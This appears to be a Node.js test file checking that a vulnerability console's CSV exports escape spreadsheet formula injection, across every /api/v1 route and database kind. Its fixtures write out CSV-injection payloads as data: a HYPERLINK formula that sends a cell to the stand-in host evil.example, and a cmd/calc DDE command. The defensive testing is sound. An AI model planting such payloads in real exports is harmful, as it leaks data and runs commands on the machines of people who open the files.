// CSV injection: scanner reports and cluster objects whose text a spreadsheet would run as a formula
// (OWASP "CSV Injection") reach every CSV the console writes with a leading ', while the numbers the
// project writes stay numbers. Every /api/v1 route is listed here, so a CSV added later without a
// check here fails the test.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { consoleRoutes } from '../src/console/console-routes.ts';
import { csvOf } from '../src/console/csv.ts';
import { consoleGet } from './helpers/console-get.ts';
import { databaseKinds } from './helpers/databases.ts';
import { ecsTaskEvent, jsonLines } from './helpers/ecs-events.ts';
import { ingestViaEndpoint, startTestServer, type TestServer } from './helpers/server.ts';

const account = '111122223333';
const registry = `${account}.dkr.ecr.us-west-2.amazonaws.com`;
const digest = `sha256:${'f'.repeat(64)}`;
const resourceId = `arn:aws:ecr:us-west-2:${account}:repository/app/${digest}`;
const eksCluster = `arn:aws:eks:us-west-2:${account}:cluster/apps`;
const pipeline = `arn:aws:imagebuilder:us-west-2:${account}:image-pipeline/app`;
const build = `arn:aws:imagebuilder:us-west-2:${account}:image/app/1.0.0/1`;

const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const command = "+1+cmd|' /C calc'!A0";
/** Each finding hostile in every text field, between them starting with each of = + - @ tab CR. */
const findings = [
  { VulnerabilityID: hyperlink, PkgName: hyperlink, InstalledVersion: command, FixedVersion: '-2+3', PkgPath: '@SUM(1+1)', Title: '=1+1', Severity: 'CRITICAL' },
  { VulnerabilityID: "@SUM(1+1)*cmd|'/C_calc'!A0", PkgName: '\t=cmd', InstalledVersion: '\r=1+1', FixedVersion: '@fix', PkgPath: '+path', Title: '-title', Severity: 'HIGH' },
  { VulnerabilityID: '-1+1', PkgName: '-pkg', InstalledVersion: '=1', FixedVersion: '+2', PkgPath: '=path', Title: '@title', Severity: 'MEDIUM' },
  { VulnerabilityID: '+1+1', PkgName: '@pkg', InstalledVersion: '-1', FixedVersion: '\t2', PkgPath: '-path', Title: '+title', Severity: 'LOW' },
];
/** Text from outside that a CSV must show (escaped): ids, packages, versions, a tag, a namespace, an ECS group. */
const reachesCsv = [
  ...findings.flatMap((f) => [f.VulnerabilityID, f.PkgName, f.InstalledVersion, f.FixedVersion]),
  '=1+2', // a tag
  '=ns', // a namespace
  '@group', // an ECS task's group
];

function trivyReport(): string {
  return JSON.stringify({
    SchemaVersion: 2,
    CreatedAt: new Date().toISOString(),
    ArtifactName: `${registry}/app:=1+2`,
    Metadata: { RepoDigests: [`${registry}/app@${digest}`], RepoTags: [`${registry}/app:=1+2`, `${registry}/app:@latest`] },
    Results: [{ Target: 'app', Vulnerabilities: findings }],
  });
}

/** A bare pod in namespace `=ns` and a Deployment's pod in `-ns`, both running the image. */
function podList(): string {
  const pod = (namespace: string, name: string, owner?: object) => ({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace, uid: `${namespace}-${name}`, resourceVersion: '1', ...(owner && { ownerReferences: [owner] }) },
    spec: { containers: [{ name: 'main', image: `${registry}/app:1` }] },
    status: { phase: 'Running', containerStatuses: [{ name: 'main', image: `${registry}/app:1`, imageID: `${registry}/app@${digest}`, ready: true, restartCount: 0, state: { running: { startedAt: new Date().toISOString() } } }] },
  });
  const replicaSet = { apiVersion: 'apps/v1', kind: 'ReplicaSet', metadata: { name: '+web-1', namespace: '-ns', uid: 'rs-1', ownerReferences: [{ apiVersion: 'apps/v1', kind: 'Deployment', name: '+web', uid: 'dep-1', controller: true }] } };
  const items = [pod('=ns', '@pod'), replicaSet, pod('-ns', '+web-1-x', { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: '+web-1', uid: 'rs-1', controller: true })];
  return JSON.stringify({ apiVersion: 'v1', kind: 'List', items });
}

const exposure = (id: string) => `/api/v1/vulnerabilities/${encodeURIComponent(id)}/exposure`;
const image = `/api/v1/images/${encodeURIComponent(resourceId)}`;
/** Per /api/v1 route, the CSV requests that cover it. */
const csvExports: Record<string, [string, Record<string, string>][]> = {
  '/api/v1/summary': [], // JSON only (it refuses format=csv)
  '/api/v1/vulnerabilities': [['/api/v1/vulnerabilities', {}], ['/api/v1/vulnerabilities', { running: 'false' }]],
  '/api/v1/images': [['/api/v1/images', { running: 'false' }]],
  '/api/v1/images/*': [[image, {}]],
  '/api/v1/clusters': [['/api/v1/clusters', {}], ['/api/v1/clusters', { clusterArn: eksCluster }]],
  '/api/v1/vulnerabilities/:vulnerabilityId/exposure': findings.map((f) => [exposure(f.VulnerabilityID), { running: 'false' }]),
  '/api/v1/pipelines': [['/api/v1/pipelines', {}], ['/api/v1/pipelines', { by: 'build' }]],
  '/api/v1/coverage': [['/api/v1/coverage', {}]],
  '/api/v1/openapi.json': [], // the API's description: not a list
  '/api/v1/alerts/deliveries': [], // JSON only (it refuses format=csv)
};

/** Whether a spreadsheet would read the cell as a formula. */
const formulaStart = /^[=+\-@\t\r]/;
/** A number the project writes (counts): the one kind of cell that may start with '-'. */
const ownNumber = /^-?\d+$/;

describe('CSV cells from scanner reports and clusters', () => {
  it('keep the numbers written as numbers, and only text that looks like a formula changes', () => {
    const text = csvOf(['n', 'text', 'plain', 'flag'], [[-3, '-3', 'CVE-2024-3094', true]]);
    assert.equal(text, "n,text,plain,flag\n-3,'-3,CVE-2024-3094,true\n");
  });
});

for (const kind of databaseKinds) {
  describe(`CSV exports neutralise formulas on ${kind.name}`, () => {
    let server: TestServer;

    before(async () => {
      server = await startTestServer(kind);
      const imageOptions = { image: `${registry}/app:=1+2@${digest}`, imagePipelineArn: pipeline, imageBuildVersionArn: build };
      for (const [text, params] of [
        [trivyReport(), imageOptions],
        [podList(), { clusterArn: eksCluster }],
        [jsonLines([
          ecsTaskEvent({ cluster: 'evil', task: 't1', group: '@group', image: `${registry}/app:1`, digest, time: new Date().toISOString() }),
          // An image running unscanned: the Coverage CSV lists it, with its task's group.
          ecsTaskEvent({ cluster: 'evil', task: 't2', group: '@group', image: `${registry}/unscanned:1`, digest: `sha256:${'d'.repeat(64)}`, time: new Date().toISOString() }),
        ]), {}],
      ] as const) {
        const result = await ingestViaEndpoint(server.url, text, params);
        assert.equal(result.status, 200, JSON.stringify(result.body));
      }
    });
    after(() => server.stop());

    it('covers every /api/v1 route', () => {
      const apiRoutes = consoleRoutes.filter((r) => r.kind === 'api').map((r) => r.path).sort();
      assert.deepEqual(Object.keys(csvExports).sort(), apiRoutes);
    });

    it('writes every outside text that looks like a formula with a leading quote, in every CSV', async () => {
      const cells: string[] = [];
      for (const [path, query] of Object.values(csvExports).flat()) {
        const response = await consoleGet(server, path, { accountId: account, format: 'csv', ...query });
        assert.equal(response.status, 200, `${path}: ${response.text}`);
        assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="[A-Za-z0-9._-]+\.csv"$/, path);
        const rows: string[][] = parse(response.text, { relax_column_count: false });
        assert.ok(rows.length > 1, `${path} ${JSON.stringify(query)} lists something`);
        for (const cell of rows.flat()) {
          assert.ok(!formulaStart.test(cell) || ownNumber.test(cell), `${path} ${JSON.stringify(query)}: cell ${JSON.stringify(cell)} would run as a formula`);
        }
        cells.push(...rows.flat());
      }
      // Each hostile value reached some CSV, escaped (so the check above did look at it).
      for (const value of reachesCsv) {
        assert.ok(cells.some((cell) => cell.startsWith(`'${value}`)), `${JSON.stringify(value)} reaches a CSV as '${value}`);
      }
    });
  });
}
